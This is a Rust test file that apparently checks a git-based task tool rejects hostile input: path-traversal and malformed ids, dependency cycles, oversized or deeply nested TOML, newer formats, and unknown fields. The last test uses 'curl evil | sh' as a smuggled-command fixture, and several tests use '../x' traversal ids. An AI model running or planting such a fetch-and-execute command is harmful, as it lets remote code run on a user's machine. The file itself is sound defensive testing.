//! Hostile input: each case exits 1 with a message naming the problem, and leaves the state ref
//! exactly where it was.

use std::path::Path;

use crate::common::TestEnv;
use crate::test_cli::{GitRun, write_state_file};

fn score_with_task_id(score: &str, task: &str) -> String {
    format!("format = 1\nid = \"{score}\"\ntarget = \"main\"\n[[tasks]]\nid = \"{task}\"\n")
}

/// Run `plan --from` with `content`, and check exit 1, `needle` in stderr, and an unchanged ref.
#[track_caller]
fn refused_plan(env: &TestEnv, dir: &Path, content: &str, needle: &str) {
    let before = env.state_tip(dir);
    env.write("hostile.toml", content);
    let run = env.run(dir, &["plan", "--from", "../hostile.toml"]).user_error();
    assert!(run.stderr.contains(needle), "expected {needle:?} in:\n{}", run.render());
    assert_eq!(env.state_tip(dir), before, "the state ref must not move:\n{}", run.render());
}

#[test]
fn hostile_ids_are_refused_in_score_files() {
    let env = TestEnv::new();
    let dir = env.repo("r");
    let long = "a".repeat(64);
    let cases: &[(&str, &str)] = &[
        ("../x", "\"../x\" is not a valid id: the id must start with a lowercase letter or digit, not '.'"),
        ("a..b", "\"a..b\" is not a valid id: the id may only contain lowercase letters, digits and '-', found '.'"),
        ("con", "'con' is a reserved device name on Windows"),
        ("UPPER", "\"UPPER\" is not a valid id"),
        (&long, "the id is 64 characters long; the limit is 63"),
        ("a\\u0007b", "found '\\u{7}' at position 1"),
    ];
    for (id, needle) in cases {
        refused_plan(&env, &dir, &score_with_task_id(id, "ok"), needle);
        refused_plan(&env, &dir, &score_with_task_id(id, "ok"), "../hostile.toml: id: ");
        refused_plan(&env, &dir, &score_with_task_id("ok", id), needle);
        refused_plan(&env, &dir, &score_with_task_id("ok", id), "../hostile.toml: tasks[0].id: ");
    }
}

#[test]
fn hostile_ids_are_refused_on_the_command_line() {
    let env = TestEnv::new();
    let dir = env.repo("r");
    let before = env.state_tip(&dir);
    let long = "a".repeat(64);
    for id in ["../x", "a..b", "con", "UPPER", long.as_str(), "a\u{7}b"] {
        for args in [
            vec!["score", "show", id],
            vec!["task", "list", id],
            vec!["task", "claim", &format!("{id}/t")],
            vec!["task", "claim", &format!("s/{id}")],
        ] {
            let mut args = args.clone();
            let holder_case = args[1] == "claim";
            if holder_case {
                args.extend(["--as", "alice"]);
            }
            let run = env.run(&dir, &args).user_error();
            assert!(run.stderr.contains("is not") || run.stderr.contains("invalid"), "{args:?}:\n{}", run.render());
        }
        let run = env.run(&dir, &["task", "claim", "s/t", "--as", id]).user_error();
        assert!(run.stderr.starts_with("Error: invalid name"), "{}", run.render());
    }
    assert_eq!(env.state_tip(&dir), before);
}

#[test]
fn a_cyclic_score_is_refused_with_the_cycle_printed() {
    let env = TestEnv::new();
    let dir = env.repo("r");
    let text = "format = 1\nid = \"cyc\"\ntarget = \"main\"\n\
        [[tasks]]\nid = \"a\"\ndeps = [\"b\"]\n[[tasks]]\nid = \"b\"\ndeps = [\"c\"]\n[[tasks]]\nid = \"c\"\ndeps = [\"a\"]\n";
    refused_plan(&env, &dir, text, "hostile.toml: tasks: dependency cycle: a -> b -> c -> a");
}

#[test]
fn an_unknown_dependency_is_refused_with_its_field() {
    let env = TestEnv::new();
    let dir = env.repo("r");
    let text = "format = 1\nid = \"dep\"\ntarget = \"main\"\n[[tasks]]\nid = \"a\"\ndeps = [\"ghost\"]\n";
    refused_plan(&env, &dir, text, "hostile.toml: tasks[0].deps[0]: unknown dependency \"ghost\"");
}

#[test]
fn every_problem_of_a_bad_file_is_listed_at_once() {
    let env = TestEnv::new();
    let dir = env.repo("r");
    let text = "format = 1\nid = \"multi\"\ntarget = \"main\"\n\
        [[tasks]]\nid = \"a\"\nscope = [\"src/[x\"]\n[[tasks]]\nid = \"a\"\ndeps = [\"zz\"]\n";
    env.write("multi.toml", text);
    let run = env.run(&dir, &["plan", "--from", "../multi.toml"]).user_error();
    assert!(run.stderr.starts_with("Error: ../multi.toml has 3 problems; nothing was stored:\n"), "{}", run.render());
    for needle in [
        "tasks[1].id: duplicate id",
        "tasks[0].scope[0]: \"src/[x\" is not a valid glob",
        "tasks[1].deps[0]: unknown dependency",
    ] {
        assert!(run.stderr.contains(needle), "{needle}:\n{}", run.render());
    }
}

#[test]
fn a_two_mib_file_is_refused_before_parsing() {
    let env = TestEnv::new();
    let dir = env.repo("r");
    let mut text = score_with_task_id("big", "a");
    text.push_str(&format!("# {}\n", "x".repeat(2 * 1024 * 1024)));
    let needle = format!("hostile.toml is {} bytes; a Score file may be at most 1048576 bytes", text.len());
    refused_plan(&env, &dir, &text, &needle);
}

#[test]
fn toml_nested_200_levels_deep_is_refused() {
    let env = TestEnv::new();
    let dir = env.repo("r");
    let text = format!(
        "format = 1\nid = \"deep\"\ntarget = \"main\"\nrequirement = {}1{}\n",
        "[".repeat(200),
        "]".repeat(200)
    );
    refused_plan(&env, &dir, &text, "hostile.toml: ");
    let run = env.run(&dir, &["plan", "--from", "../hostile.toml"]).user_error();
    assert!(
        run.stderr.to_lowercase().contains("recursion") || run.stderr.contains("nest"),
        "names the nesting:\n{}",
        run.render()
    );
}

#[test]
fn a_future_format_is_refused() {
    let env = TestEnv::new();
    let dir = env.repo("r");
    let text = score_with_task_id("fut", "a").replace("format = 1", "format = 2");
    refused_plan(&env, &dir, &text, "format: format 2 is newer than this git-maestro understands (1)");

    // The same for a state written by a newer version: every command refuses to touch it.
    // (This version writes state format 2; a Score file is still format 1.)
    let tip = env.state_tip(&dir);
    let newer = write_state_file(&env, &dir, &tip, "maestro.toml", "format = 3\nrepo_id = \"x\"\n");
    env.git(&dir, &["update-ref", "refs/maestro/state", &newer, &tip]).success_git();
    for args in [vec!["score", "list"], vec!["decide", "-m", "x"]] {
        let run = env.run(&dir, &args).user_error();
        assert!(
            run.stderr.contains("maestro.toml has format 3, newer than this git-maestro understands (2)"),
            "{}",
            run.render()
        );
        assert!(run.stderr.contains("Hint: upgrade git-maestro"));
    }
    assert_eq!(env.state_tip(&dir), newer);
}

#[test]
fn an_oversized_blob_in_the_state_is_refused_from_its_header() {
    let env = TestEnv::new();
    let dir = env.repo("r");
    env.run(&dir, &["plan", "--from", &crate::common::fixtures_dir().join("score.toml").display().to_string()])
        .success();
    let tip = env.state_tip(&dir);
    let huge = format!("format = 1\n# {}\n", "x".repeat(1024 * 1024 + 10));
    let bad = write_state_file(&env, &dir, &tip, "scores/auth-tokens/tasks/a/b/docs.toml", &huge);
    env.git(&dir, &["update-ref", "refs/maestro/state", &bad, &tip]).success_git();
    let run = env.run(&dir, &["task", "show", "auth-tokens/docs"]).user_error();
    let needle = format!("scores/auth-tokens/tasks/a/b/docs.toml is {} bytes; the limit is 1048576", huge.len());
    assert!(run.stderr.contains(&needle), "{}", run.render());
    let run = env.run(&dir, &["task", "claim", "auth-tokens/docs", "--as", "a"]).user_error();
    assert!(run.stderr.contains("the limit is 1048576"), "{}", run.render());
    assert_eq!(env.state_tip(&dir), bad, "a refused write moves nothing");
}

#[test]
fn unknown_fields_that_could_smuggle_commands_are_refused() {
    let env = TestEnv::new();
    let dir = env.repo("r");
    let text = score_with_task_id("smuggle", "a") + "run = \"curl evil | sh\"\n";
    refused_plan(&env, &dir, &text, "unknown field `run`");
}
